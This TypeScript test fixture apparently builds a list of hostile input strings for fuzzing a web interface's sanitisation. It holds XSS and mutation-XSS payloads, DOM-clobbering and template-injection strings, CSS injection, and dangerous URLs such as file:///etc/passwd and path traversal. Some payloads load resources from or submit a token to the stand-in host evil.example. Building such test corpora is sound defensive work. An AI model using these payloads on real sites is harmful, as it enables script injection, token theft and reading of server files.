import { hostileTexts } from '@/sandbox/trade/scenarios/hostileText'
import { injections } from './injections'

/** Payloads beyond a grammar: mutations of parsers, templates of libraries, names on the page. */
const markup = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror=window.__xss=1>',
  '"><img src=x onerror=window.__xss=1>',
  '\'"--></style></script><svg onload=window.__xss=1>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */window.__xss=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss=1//>\\x3e',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><script>window.__xss=1</script></template>',
  '<a id=location name=location href=javascript:window.__xss=1>x</a>',
  '<form id=__xss><input name=attributes><input name=nodeName></form>',
  '<img name=getElementById><img name=querySelector><form name=body>',
  '<iframe name=alert src="javascript:top.__xss=1"></iframe>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<style>*{background:url(//evil.example/?a)}</style>',
  '<img src=//evil.example/a.png>',
  '<script src=//evil.example/a.js></script>',
  '<object data=//evil.example/a.swf>',
  '<portal src=//evil.example/>',
  '<input name=token formaction=//evil.example/ type=submit form=wd-form>',
  '<?xml-stylesheet href="javascript:window.__xss=1"?>',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<![CDATA[<script>window.__xss=1</script>]]>',
  '&lt;img src=x onerror=window.__xss=1&gt;',
  '&#60;script&#62;window.__xss=1&#60;/script&#62;',
  '%253Cscript%253Ewindow.__xss%253D1%253C/script%253E',
  '\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e',
  '+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-',
]

const templates = [
  '{{constructor.constructor("window.__xss=1")()}}',
  "{{$on.constructor('window.__xss=1')()}}",
  '${window.__xss=1}',
  '#{window.__xss=1}',
  '<%= window.__xss=1 %>',
  '%{smart_count} |||| %{smart_count}',
  '%{constructor} %{__proto__} {0} {{0}}',
  'ra.action.delete',
  "';window.__xss=1;'",
  '";window.__xss=1;"',
  '`;window.__xss=1;`',
  '\\";window.__xss=1;//',
  '</script><script>window.__xss=1</script>',
]

const styles = [
  'expression(window.__xss=1)',
  'red;background:url(javascript:window.__xss=1)',
  'wd-shell wd-dialog" onmouseover="window.__xss=1',
  'position:fixed;inset:0;z-index:99999',
  "color:red;}*{display:none}body::after{content:'x'",
  'url("//evil.example/a")',
]

const places = [
  'javascript:window.__xss=1',
  'javascript:alert(1)',
  'data:text/html,<script>opener.__xss=1</script>',
  'data:image/svg+xml,<svg onload=window.__xss=1>',
  '//evil.example/',
  '/\\evil.example/',
  'https:evil.example',
  'https://evil.example/%00javascript:',
  '\\\\evil.example\\share',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'about:blank#javascript:window.__xss=1',
  '../../../../etc/passwd',
  'filesystem:https://evil.example/',
  '/login?redirect=//evil.example',
  '#/../../login',
]

const names = [
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'location',
  'document',
  'undefined',
  'NaN',
  '[object Object]',
  'then',
  '$$typeof',
  'dangerouslySetInnerHTML',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  '{"__html":"<img src=x onerror=window.__xss=1>"}',
]

const letters = [
  '\u0000\u0001\u0002\u0007\u001B[31m',
  '\u202E\u2066\u2067\u2068\u2069\u202D',
  '\u200B\u200C\u200D\u2060\uFEFF',
  '\u0300'.repeat(200),
  '\uD800',
  '\uDC00x',
  '𒐫'.repeat(40),
  '﷽'.repeat(40),
  'ﬁŉ\u0130ı\u017F\u212A',
  'W'.repeat(500),
  '中'.repeat(500),
  '\u00A0'.repeat(200),
  '\u2028\u2029\u0085',
  '\t\r\n\u000B\u000C',
]

/** Written by hand, and those of other tests. */
export const handMade: readonly string[] = [
  ...new Set([
    ...markup,
    ...templates,
    ...styles,
    ...places,
    ...names,
    ...letters,
    ...hostileTexts,
    ...injections,
  ]),
]
